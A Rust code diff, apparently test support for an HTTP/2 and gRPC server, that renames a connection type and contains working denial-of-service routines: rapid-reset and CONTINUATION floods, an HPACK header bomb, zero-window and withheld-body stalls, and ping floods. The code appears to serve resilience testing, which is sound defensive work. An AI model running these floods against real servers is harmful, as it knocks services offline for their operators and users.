@@ -20,20 +20,20 @@ use crate::http2::{
     WINDOW_UPDATE, frame, header, opening, request_headers,
 };
 
-/// Where an attacker connects, and as whom.
+/// A listener under attack, and the token that the attacker sends.
 #[derive(Clone, Debug)]
-pub(crate) struct Door {
+pub(crate) struct Listener {
     pub(crate) address: SocketAddr,
     pub(crate) token: Option<String>,
 }
 
-impl From<SocketAddr> for Door {
+impl From<SocketAddr> for Listener {
     fn from(address: SocketAddr) -> Self {
         Self { address, token: None }
     }
 }
 
-impl Door {
+impl Listener {
     /// The value of its `authorization` header.
     pub(crate) fn authorization(&self) -> Option<String> {
         self.token.as_ref().map(|token| format!("Bearer {token}"))
@@ -60,12 +60,12 @@ pub(crate) struct Wire {
 }
 
 impl Wire {
-    async fn open(door: &Door, settings: &[u8]) -> io::Result<Self> {
-        Self::with(door, settings, true).await
+    async fn open(listener: &Listener, settings: &[u8]) -> io::Result<Self> {
+        Self::with(listener, settings, true).await
     }
 
-    async fn with(door: &Door, settings: &[u8], answers_pings: bool) -> io::Result<Self> {
-        let tcp = TcpStream::connect(door.address).await?;
+    async fn with(listener: &Listener, settings: &[u8], answers_pings: bool) -> io::Result<Self> {
+        let tcp = TcpStream::connect(listener.address).await?;
         tcp.set_nodelay(true)?;
         let (read, mut write) = tcp.into_split();
         write.write_all(&opening(settings)).await?;
@@ -139,32 +139,35 @@ fn whole(stream: u32, headers: &[u8], body: &[u8]) -> Vec<u8> {
 
 /// Opens streams and takes them back at once, until the connection is ended. How many streams that took, if the
 /// server did end it.
-pub(crate) async fn rapid_reset(door: impl Into<Door>, streams: u32) -> io::Result<Option<u32>> {
-    let door = door.into();
-    let (headers, ask) = (door.request_headers(CHECK), ask());
+pub(crate) async fn rapid_reset(listener: impl Into<Listener>, streams: u32) -> io::Result<Option<u32>> {
+    let listener = listener.into();
+    let (headers, ask) = (listener.request_headers(CHECK), ask());
     let burst = |stream| {
         let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
         [whole(stream, &headers, &ask), reset].concat()
     };
-    Ok(Wire::open(&door, &[]).await?.streams_until_ended(streams, burst).await)
+    Ok(Wire::open(&listener, &[]).await?.streams_until_ended(streams, burst).await)
 }
 
 /// Sends requests that make the server end their streams: a window update of nothing is an error of the stream.
-pub(crate) async fn made_reset(door: impl Into<Door>, streams: u32) -> io::Result<Option<u32>> {
-    let door = door.into();
-    let headers = door.request_headers(CHECK);
+pub(crate) async fn made_reset(listener: impl Into<Listener>, streams: u32) -> io::Result<Option<u32>> {
+    let listener = listener.into();
+    let headers = listener.request_headers(CHECK);
     let burst = |stream| {
         let update = frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
         [frame(HEADERS, END_HEADERS, stream, &headers), update].concat()
     };
-    Ok(Wire::open(&door, &[]).await?.streams_until_ended(streams, burst).await)
+    Ok(Wire::open(&listener, &[]).await?.streams_until_ended(streams, burst).await)
 }
 
 /// Goes on and on with the headers of one request. How many bytes it took, if the server ended it.
-pub(crate) async fn continuation_flood(door: impl Into<Door>, bytes_max: usize) -> io::Result<Option<usize>> {
-    let door = door.into();
-    let mut wire = Wire::open(&door, &[]).await?;
-    wire.send(&frame(HEADERS, 0, 1, &door.request_headers(CHECK))).await;
+pub(crate) async fn continuation_flood(
+    listener: impl Into<Listener>,
+    bytes_max: usize,
+) -> io::Result<Option<usize>> {
+    let listener = listener.into();
+    let mut wire = Wire::open(&listener, &[]).await?;
+    wire.send(&frame(HEADERS, 0, 1, &listener.request_headers(CHECK))).await;
     let junk: Vec<u8> = (0..100).flat_map(|_| header("x-junk", &"j".repeat(100))).collect();
     let junk = frame(CONTINUATION, 0, 1, &junk);
     let mut sent = 0;
@@ -179,11 +182,11 @@ pub(crate) async fn continuation_flood(door: impl Into<Door>, bytes_max: usize) 
 }
 
 /// A long header, remembered by HPACK, and then named ten thousand times by a byte each: 40 MB of headers in 16 KB.
-pub(crate) async fn header_bomb(door: impl Into<Door>, rounds: u32) -> io::Result<()> {
-    let door = door.into();
-    let wire = Wire::open(&door, &[]).await?;
+pub(crate) async fn header_bomb(listener: impl Into<Listener>, rounds: u32) -> io::Result<()> {
+    let listener = listener.into();
+    let wire = Wire::open(&listener, &[]).await?;
     for round in 0..rounds {
-        let mut block = door.request_headers(CHECK);
+        let mut block = listener.request_headers(CHECK);
         // Remembered: `bomb` with 4000 bytes, whose length HPACK writes as 127 and then 3873 in groups of 7 bits.
         block.extend([0x40, 4]);
         block.extend(b"bomb");
@@ -198,47 +201,47 @@ pub(crate) async fn header_bomb(door: impl Into<Door>, rounds: u32) -> io::Resul
 }
 
 /// Asks for much and takes none of it: a window of nothing, pings answered.
-pub(crate) async fn zero_window(door: impl Into<Door>, streams: u32) -> io::Result<Wire> {
-    let door = door.into();
+pub(crate) async fn zero_window(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
+    let listener = listener.into();
     // SETTINGS_INITIAL_WINDOW_SIZE of 0.
-    let wire = Wire::open(&door, &[0, 4, 0, 0, 0, 0]).await?;
-    let (headers, ask) = (door.request_headers(CHECK), ask());
+    let wire = Wire::open(&listener, &[0, 4, 0, 0, 0, 0]).await?;
+    let (headers, ask) = (listener.request_headers(CHECK), ask());
     wire.send_streams(streams, |stream| whole(stream, &headers, &ask)).await;
     Ok(wire)
 }
 
 /// Asks for as many streams of denials and reads none of them.
-pub(crate) async fn unread_watches(door: impl Into<Door>, streams: u32) -> io::Result<Wire> {
-    let door = door.into();
-    let wire = Wire::open(&door, &[0, 4, 0, 0, 0, 0]).await?;
-    let (headers, all) = (door.request_headers("/throttlekit.v1.Monitor/Watch"), framed(&[]));
+pub(crate) async fn unread_watches(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
+    let listener = listener.into();
+    let wire = Wire::open(&listener, &[0, 4, 0, 0, 0, 0]).await?;
+    let (headers, all) = (listener.request_headers("/throttlekit.v1.Monitor/Watch"), framed(&[]));
     wire.send_streams(streams, |stream| whole(stream, &headers, &all)).await;
     Ok(wire)
 }
 
 /// Requests whose bodies never come, as many as a connection may have.
-pub(crate) async fn withheld_bodies(door: impl Into<Door>, streams: u32) -> io::Result<Wire> {
-    let door = door.into();
-    let wire = Wire::open(&door, &[]).await?;
-    let headers = door.request_headers(CHECK);
+pub(crate) async fn withheld_bodies(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
+    let listener = listener.into();
+    let wire = Wire::open(&listener, &[]).await?;
+    let headers = listener.request_headers(CHECK);
     wire.send_streams(streams, |stream| frame(HEADERS, END_HEADERS, stream, &headers)).await;
     Ok(wire)
 }
 
 /// Streams of health, whose answers are read.
-pub(crate) async fn health_watches(door: impl Into<Door>, streams: u32) -> io::Result<Wire> {
-    let door = door.into();
-    let wire = Wire::open(&door, &[]).await?;
-    let headers = door.request_headers("/grpc.health.v1.Health/Watch");
+pub(crate) async fn health_watches(listener: impl Into<Listener>, streams: u32) -> io::Result<Wire> {
+    let listener = listener.into();
+    let wire = Wire::open(&listener, &[]).await?;
+    let headers = listener.request_headers("/grpc.health.v1.Health/Watch");
     wire.send_streams(streams, |stream| whole(stream, &headers, &[0; 5])).await;
     Ok(wire)
 }
 
 /// Pings as fast as they go. How many it took, if the server ended it.
-pub(crate) async fn ping_flood(door: impl Into<Door>, pings: u32) -> io::Result<Option<u32>> {
+pub(crate) async fn ping_flood(listener: impl Into<Listener>, pings: u32) -> io::Result<Option<u32>> {
     const BURST: u32 = 100;
-    let door = door.into();
-    let wire = Wire::open(&door, &[]).await?;
+    let listener = listener.into();
+    let wire = Wire::open(&listener, &[]).await?;
     let burst = frame(PING, 0, 0, &[0; 8]).repeat(BURST as usize);
     for sent in (0..pings).step_by(BURST as usize) {
         if !wire.send(&burst).await {
@@ -250,10 +253,10 @@ pub(crate) async fn ping_flood(door: impl Into<Door>, pings: u32) -> io::Result<
 
 /// Begins the headers of a request over HTTP/2 and never ends them. A ping cannot be answered in the middle of them:
 /// who keeps to that stays silent, and who answers breaks the rules of HTTP/2.
-pub(crate) async fn unended_headers(door: impl Into<Door>, answers_pings: bool) -> io::Result<Wire> {
-    let door = door.into();
-    let wire = Wire::with(&door, &[], answers_pings).await?;
-    wire.send(&frame(HEADERS, 0, 1, &door.request_headers(CHECK)[..10])).await;
+pub(crate) async fn unended_headers(listener: impl Into<Listener>, answers_pings: bool) -> io::Result<Wire> {
+    let listener = listener.into();
+    let wire = Wire::with(&listener, &[], answers_pings).await?;
+    wire.send(&frame(HEADERS, 0, 1, &listener.request_headers(CHECK)[..10])).await;
     Ok(wire)
 }
 
@@ -299,16 +302,20 @@ pub(crate) const HEAD_BEGUN: &[u8] = b"GET /0 HTTP/1.1\r\nhost: a\r\nx-a: ";
 pub(crate) const HEAD_GOES_ON: &[u8] = &[b'b'; 400];
 
 /// The status of an answer to JSON, and the answer.
-pub(crate) async fn post(door: impl Into<Door>, path: &str, json: &[u8]) -> io::Result<(u16, String)> {
-    let door = door.into();
+pub(crate) async fn post(
+    listener: impl Into<Listener>,
+    path: &str,
+    json: &[u8],
+) -> io::Result<(u16, String)> {
+    let listener = listener.into();
     let authorization =
-        door.authorization().map_or(String::new(), |value| format!("authorization: {value}\r\n"));
+        listener.authorization().map_or(String::new(), |value| format!("authorization: {value}\r\n"));
     let head = format!(
         "POST {path} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\
          {authorization}connection: close\r\n\r\n",
         json.len()
     );
-    let answer = http1(door.address, &[head.as_bytes(), json].concat()).await?;
+    let answer = http1(listener.address, &[head.as_bytes(), json].concat()).await?;
     let status = answer.split(' ').nth(1).and_then(|status| status.parse().ok());
     Ok((status.ok_or_else(|| io::Error::other("no status"))?, answer))
 }
